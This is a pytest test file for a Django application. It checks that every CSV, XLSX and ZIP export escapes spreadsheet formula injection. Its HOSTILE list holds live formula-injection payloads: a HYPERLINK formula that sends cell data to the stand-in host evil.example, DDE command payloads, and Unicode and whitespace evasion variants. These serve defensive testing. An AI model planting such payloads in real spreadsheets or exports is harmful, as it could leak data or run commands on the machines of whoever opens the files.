"""No spreadsheet the product writes carries a formula from its content.

The whole demo organisation's text is overwritten with hostile cells, then every export the
URL patterns offer (every route ending in .csv, .xlsx or .zip, for every session) is
downloaded and every cell checked. A new export is covered without changing this test; one
with an argument the test cannot fill makes it fail."""

import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from bedoeling.lib import exports
from bedoeling.live import services as live
from bedoeling.live.models import LiveSession
from bedoeling.orgs.data import organisation_objects
from bedoeling.orgs.models import Organisation

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "  =1+1",
    "＝1+1",
]
SKIP = {"slug", "code", "token", "token_hash", "email", "password", "key", "kind", "action",
        "format_key", "language", "status", "model", "view", "state"}


def _hostile(value: str, n: int, max_length) -> str:
    text = HOSTILE[n % len(HOSTILE)] + " " + value
    return text[:max_length] if max_length else text


def _constrained(model) -> set:
    names = {n for group in model._meta.unique_together for n in group}
    for constraint in model._meta.constraints:
        names |= set(getattr(constraint, "fields", ()) or ())
    return names


def poison(org) -> int:
    """Overwrite every free text of `org`'s rows with a formula; returns how many."""
    count = 0
    for obj in organisation_objects(org):
        if not isinstance(obj, models.Model):
            continue
        changed = []
        constrained = _constrained(type(obj))
        for field in obj._meta.concrete_fields:
            # Free text only: identifiers (short, unique, constrained, with choices) stay.
            if (not isinstance(field, (models.CharField, models.TextField)) or field.choices
                    or field.unique or field.name in SKIP or field.primary_key
                    or field.name in constrained
                    or (field.max_length or 1000) < 30):
                continue
            value = getattr(obj, field.attname)
            if not isinstance(value, str) or not value:
                continue
            setattr(obj, field.attname, _hostile(value, count, field.max_length))
            changed.append(field.attname)
            count += 1
        if changed:
            type(obj).objects.filter(pk=obj.pk).update(
                **{name: getattr(obj, name) for name in changed})
    return count


def _patterns(entries=None, namespace=""):
    for entry in get_resolver().url_patterns if entries is None else entries:
        if isinstance(entry, URLResolver):
            ns = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from _patterns(entry.url_patterns, ns)
        elif isinstance(entry, URLPattern) and entry.name:
            yield f"{namespace}{entry.name}", str(entry.pattern)


def export_routes() -> list[tuple[str, str]]:
    return [(name, route) for name, route in _patterns()
            if route.endswith((".csv", ".xlsx", ".zip"))]


def check_csv(content: bytes, where: str) -> int:
    assert content.startswith(b"\xef\xbb\xbf"), f"{where}: no UTF-8 byte order mark"
    cells = 0
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig")),
                          delimiter=exports.CSV_SEPARATOR):
        for cell in row:
            cells += 1
            assert not exports.looks_like_formula(cell), f"{where}: formula cell {cell!r}"
    return cells


def check_xlsx(content: bytes, where: str) -> int:
    workbook = load_workbook(io.BytesIO(content))
    cells = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                cells += 1
                assert cell.data_type != "f", f"{where}: formula {cell.value!r}"
                if isinstance(cell.value, str) and exports.looks_like_formula(cell.value):
                    assert cell.quotePrefix, f"{where}: unmarked formula text {cell.value!r}"
    return cells


def check(content: bytes, name: str, where: str) -> int:
    if name.endswith(".csv"):
        return check_csv(content, where)
    if name.endswith(".xlsx"):
        return check_xlsx(content, where)
    if name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return sum(check(archive.read(member), member, f"{where}:{member}")
                       for member in archive.namelist())
    return 0


@pytest.fixture
def hostile_demo(db, client_for):
    call_command("demo", stdout=io.StringIO())
    org = Organisation.objects.get(slug="wilgenhoek")
    steer = org.memberships.filter(role="facilitator").first().user
    session = live.session_create(org, steer, title="Open", format_key="open")
    live.session_open(session, steer)
    phases = list(session.phases.all())
    live.phase_activate(session, phases[1])
    phone, _token = live.participant_join(session)
    live.card_add(phases[1], phone, text="Meer tijd")
    assert poison(org) > 100
    return org, client_for(steer)


def test_every_export_escapes_every_hostile_cell(hostile_demo):
    org, client = hostile_demo
    routes = export_routes()
    assert {"live:harvest_csv", "live:harvest_xlsx", "stories:export_csv",
            "stories:export_xlsx"} <= {name for name, _route in routes}
    sessions = list(LiveSession.objects.filter(organisation=org).values_list("pk", flat=True))
    checked = cells = 0
    for name, route in routes:
        variants = [{"org": org.slug}]
        if "<int:session>" in route:
            variants = [{"org": org.slug, "session": pk} for pk in sessions]
        for kwargs in variants:
            try:
                url = reverse(name, kwargs=kwargs)
            except Exception:  # noqa: BLE001 (a route this test does not know how to fill)
                pytest.fail(f"{name} ({route}) has arguments this test cannot fill")
            response = client.get(url)
            if response.status_code == 405:
                response = client.post(url)
            assert response.status_code == 200, f"{url}: {response.status_code}"
            content = b"".join(response.streaming_content) if response.streaming \
                else response.content
            cells += check(content, route, url)
            checked += 1
    assert checked >= len(sessions) * 2 + 2
    assert cells > 1000


def test_the_escaping_catches_each_hostile_form():
    for text in HOSTILE:
        assert exports.csv_cell(text).startswith("'"), text
    assert exports.csv_cell("Gewoon een kaart") == "Gewoon een kaart"
    assert exports.csv_cell(-3) == -3 and exports.csv_cell(2.5) == "2,5"
    assert exports.csv_cell("a\x00b\x07c") == "abc"


def test_no_code_but_the_exports_module_writes_csv_or_xlsx():
    root = Path(__file__).resolve().parents[2]
    writers = ("csv.writer", "csv.DictWriter", "Workbook(", "xlsxwriter")
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path.name == "exports.py":
            continue
        text = path.read_text(encoding="utf-8")
        offenders += [f"{path.relative_to(root)}: {w}" for w in writers if w in text]
    assert not offenders, offenders
